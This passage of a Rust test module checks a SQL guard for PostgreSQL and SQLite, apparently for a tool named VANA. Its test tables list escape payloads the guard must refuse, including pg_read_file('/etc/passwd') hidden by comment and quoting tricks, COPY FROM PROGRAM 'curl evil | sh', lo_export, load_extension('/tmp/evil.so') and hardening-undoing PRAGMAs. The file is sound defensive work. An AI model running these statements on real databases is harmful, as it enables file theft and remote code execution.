            ("SELECT ARRAY(SELECT dblink('a','b'))", "dblink"),
            ("SELECT row_to_json(t) FROM (SELECT pg_read_file('/x')) t", "pg_read_file"),
            ("SELECT t.a FROM t LIMIT (SELECT length(pg_read_file('x')))", "pg_read_file"),
            ("EXPLAIN SELECT pg_read_file('x')", "pg_read_file"),
            // Comments, strings and identifiers read as PostgreSQL reads them.
            ("SELECT E'\\'', pg_read_file('/etc/passwd') -- '", "pg_read_file"),
            ("SELECT '\\', pg_read_file('/etc/passwd') -- '", "pg_read_file"),
            ("SELECT 1 -- /*\n, pg_read_file('x')", "pg_read_file"),
            ("SELECT 1 /* a /* nested */ b */, pg_read_file('x')", "pg_read_file"),
            ("SELECT x$y$ , pg_read_file('x') -- $y$", "pg_read_file"),
            ("SELECT * FROM (SELECT 1) AS s(x$y$), pg_read_file('/etc/passwd') -- $y$", "pg_read_file"),
        ];
        for (sql, name) in table {
            refused(pg(sql), sql, &["function", name, "is refused"]);
        }
        // A nested comment hides the call from PostgreSQL too: nothing to refuse.
        assert_eq!(pg("SELECT 1 /* /* */ , pg_read_file('/etc/passwd') */"), Ok(()));
    }

    #[test]
    fn sqlite_refuses_attach_vacuum_into_and_writing_pragmas() {
        let table: &[(&str, &[&str])] = &[
            ("ATTACH DATABASE '/tmp/other.db' AS x", &["`ATTACH` is refused", "another database file"]),
            ("attach '/tmp/other.db' as x", &["`ATTACH` is refused"]),
            ("DETACH DATABASE x", &["`DETACH` is refused"]),
            ("VACUUM INTO '/tmp/copy.db'", &["`VACUUM INTO` is refused", "writes a copy"]),
            ("VACUUM", &["`VACUUM` is refused"]),
            ("PRAGMA user_version = 3", &["`PRAGMA user_version = 3` is refused", "read-only pragmas"]),
            ("PRAGMA query_only = OFF", &["is refused"]),
            ("PRAGMA trusted_schema=ON", &["is refused"]),
            ("PRAGMA writable_schema = 1", &["is refused"]),
            ("PRAGMA journal_mode = DELETE", &["is refused"]),
            ("PRAGMA table_info(a); DELETE FROM t", &["more than one statement"]),
            ("SELECT load_extension('/tmp/evil.so')", &["load_extension", "is refused"]),
            ("SELECT fts3_tokenizer('simple')", &["fts3_tokenizer"]),
            ("SELECT readfile('/etc/passwd')", &["readfile"]),
            ("DELETE FROM orders", &["`DELETE` is not a read", "read-only PRAGMAs"]),
            ("REINDEX", &["`REINDEX` is not a read"]),
            ("SELECT 1; SELECT 2", &["more than one statement"]),
        ];
        for (sql, fragments) in table {
            refused(lite(sql), sql, fragments);
        }
    }

    #[test]
    fn approved_writes_still_refuse_what_reaches_past_the_database() {
        let write = |d, sql| check(sql, d, Access::Write);
        for sql in [
            "INSERT INTO t VALUES (1)",
            "UPDATE t SET a = $1 WHERE id = $2",
            "DELETE FROM t",
            "CREATE TABLE x (id int PRIMARY KEY)",
            "WITH d AS (DELETE FROM t RETURNING *) INSERT INTO log SELECT * FROM d",
            "SELECT 1",
            // Tables whose names look like refused functions are still tables.
            "INSERT INTO lo_log (a) VALUES (1)",
            "INSERT INTO public.lo_log (a) VALUES (1)",
            "CREATE TABLE IF NOT EXISTS dblink_targets (id int)",
            "CREATE INDEX i ON lo_log (a)",
        ] {
            assert_eq!(write(Dialect::Postgres, sql), Ok(()), "{sql}");
        }
        for sql in ["INSERT INTO t VALUES (1)", "PRAGMA foreign_keys = ON", "PRAGMA user_version = 2"] {
            assert_eq!(write(Dialect::Sqlite, sql), Ok(()), "{sql}");
        }
        let table: &[(Dialect, &str, &str)] = &[
            (Dialect::Postgres, "COPY t FROM PROGRAM 'curl evil | sh'", "`COPY` is refused"),
            (Dialect::Postgres, "COPY (SELECT 1) TO PROGRAM 'touch /tmp/x'", "`COPY` is refused"),
            (Dialect::Postgres, "DO $$BEGIN EXECUTE 'COPY t TO PROGRAM ''x'''; END$$", "`DO` is refused"),
            (Dialect::Postgres, "INSERT INTO t SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
            (Dialect::Postgres, "UPDATE t SET a = lo_export(1, '/tmp/x')", "lo_export"),
            (Dialect::Postgres, "DELETE FROM t WHERE pg_terminate_backend(1)", "pg_terminate_backend"),
            (Dialect::Postgres, "ALTER SYSTEM SET archive_command = 'x'", "`ALTER SYSTEM` is refused"),
            (
                Dialect::Postgres,
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
                "CREATE FUNCTION",
            ),
            (Dialect::Postgres, "CREATE EXTENSION adminpack", "CREATE EXTENSION"),
            (Dialect::Postgres, "CALL pg_catalog.lo_export(1, '/tmp/x')", "lo_export"),
            (Dialect::Postgres, "UPDATE t SET a = 1 FROM a JOIN b ON lo_unlink(1) > 0", "lo_unlink"),
            (Dialect::Postgres, "INSERT INTO t VALUES (1); COPY t TO '/tmp/x'", "more than one statement"),
            (Dialect::Postgres, "INSERT INTO t VALUES (1)); garbage", "could not be parsed"),
            (Dialect::Sqlite, "ATTACH '/tmp/other.db' AS x", "`ATTACH` is refused"),
            (Dialect::Sqlite, "VACUUM INTO '/tmp/copy.db'", "`VACUUM INTO` is refused"),
            (Dialect::Sqlite, "PRAGMA trusted_schema = ON", "undo VANA's SQLite hardening"),
            (Dialect::Sqlite, "PRAGMA writable_schema = 1", "undo VANA's SQLite hardening"),
            (Dialect::Sqlite, "INSERT INTO t SELECT load_extension('/tmp/x.so')", "load_extension"),
        ];
        for (d, sql, fragment) in table {
            refused(write(*d, sql), sql, &[fragment]);
        }
    }
}
